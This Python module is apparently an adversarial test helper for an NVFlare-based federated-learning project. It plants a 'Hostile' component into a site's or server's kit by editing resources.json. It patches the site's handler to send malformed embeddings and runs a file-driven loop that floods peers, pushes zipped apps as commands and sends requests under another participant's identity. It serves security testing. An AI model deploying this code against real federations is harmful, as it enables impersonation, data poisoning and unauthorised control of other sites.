"""What somebody puts into the kit they were given, a server's or a site's, to attack another site.

The component reads orders from `orders.json` in its own kit, sends them over the kit's own connection as NVFlare's
server would, and writes what came back to `replies.json`.
"""

import io
import json
import os
import shutil
import threading
import time
import uuid
import zipfile
from pathlib import Path

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_constant import FLContextKey
from nvflare.fuel.f3.cellnet.defs import CellChannel, MessageHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import new_cell_message

from privee.federation.site.site import Site
from privee.vfl.messages import Embedding

SECONDS, EVERY = 600.0, 0.1
BENT = "bent"


class Hostile(FLComponent):
    """Listed in the kit's own `local/resources.json`; nobody asks whether such a class is allowed.

    The processes of jobs have it too: there it makes the site send embeddings of a width of its own in a run called
    `BENT`.
    """

    def __init__(self):
        super().__init__()
        honest = Site.handle

        def handle(site, content):
            reply = honest(site, content)
            bent = isinstance(reply, Embedding) and reply.values is not None and site.job.run == BENT
            return Embedding(reply.values.repeat(1, 50)) if bent else reply

        Site.handle = handle

    def handle_event(self, event_type, fl_ctx):
        if event_type in (EventType.SYSTEM_START, EventType.AFTER_CLIENT_REGISTER):
            engine = fl_ctx.get_engine()
            kit = Path(fl_ctx.get_prop(FLContextKey.WORKSPACE_ROOT) or engine.args.workspace)
            threading.Thread(target=obey, args=(engine, kit), daemon=True).start()


def obey(engine, kit: Path) -> None:
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        if (orders := _taken(kit)) is not None:
            part = kit / f"replies-{uuid.uuid4()}"
            part.write_text(json.dumps([_sent(engine, order) for order in orders]))
            os.replace(part, kit / "replies.json")
        time.sleep(EVERY)


def _taken(kit: Path) -> list[dict] | None:
    """Orders are moved before they are read: of several threads and processes with this component one obeys."""
    mine = kit / f"orders-{uuid.uuid4()}"
    try:
        os.rename(kit / "orders.json", mine)
    except FileNotFoundError:
        return None
    return json.loads(mine.read_text())


def _sent(engine, order: dict) -> str:
    """One message: to the process that takes the server's commands, or on any other channel."""
    cell = engine.get_cell() if hasattr(engine, "get_cell") and engine.get_cell() else engine.server.cell
    channel, topic = order.get("channel", CellChannel.CLIENT_MAIN), order["topic"]
    if channel == CellChannel.CLIENT_MAIN:
        body = zipped(Path(order["app"])) if "app" in order else order.get("body", "")
        payload = Message(topic=topic, body=body)
        payload.set_headers(order.get("headers", {}))
    else:
        payload = bytes.fromhex(order.get("hex", ""))
    request = new_cell_message({}, payload)
    if "times" in order:
        for _ in range(order["times"]):
            cell.core_cell.fire_and_forget(channel, topic, order["to"], new_cell_message({}, payload))
        return "sent"
    own = cell.core_cell.my_info.fqcn
    cell.core_cell.my_info.fqcn = order.get("as", own)  # under another's name
    try:
        reply = cell.core_cell.send_request(channel, topic, order["to"], request, timeout=order["seconds"])
    finally:
        cell.core_cell.my_info.fqcn = own
    code, found = reply.get_header(MessageHeaderKey.RETURN_CODE), reply.payload
    return f"{code} {found.body if isinstance(found, Message) else found}"


def plant(kit: Path) -> None:
    """Put the component into a kit."""
    custom = kit / "local" / "custom"
    custom.mkdir(exist_ok=True)
    shutil.copyfile(__file__, custom / "hostile_kit.py")
    resources = json.loads((kit / "local" / "resources.json").read_text())
    resources["components"].append({"id": "hostile", "path": "hostile_kit.Hostile", "args": {}})
    (kit / "local" / "resources.json").write_text(json.dumps(resources))


def ordered(kit: Path, orders: list[dict], seconds: float = 60.0) -> list[str]:
    """Have a planted component send these, and wait for what came back; "ok" begins what was answered."""
    (kit / "replies.json").unlink(missing_ok=True)
    (kit / "orders.part").write_text(json.dumps(orders))
    os.replace(kit / "orders.part", kit / "orders.json")
    end = time.monotonic() + seconds
    while not (kit / "replies.json").exists():
        assert time.monotonic() < end, "the component did not answer"
        time.sleep(EVERY)
    return json.loads((kit / "replies.json").read_text())


def zipped(folder: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for path in sorted(folder.rglob("*")):
            file.write(path, path.relative_to(folder))
    return out.getvalue()
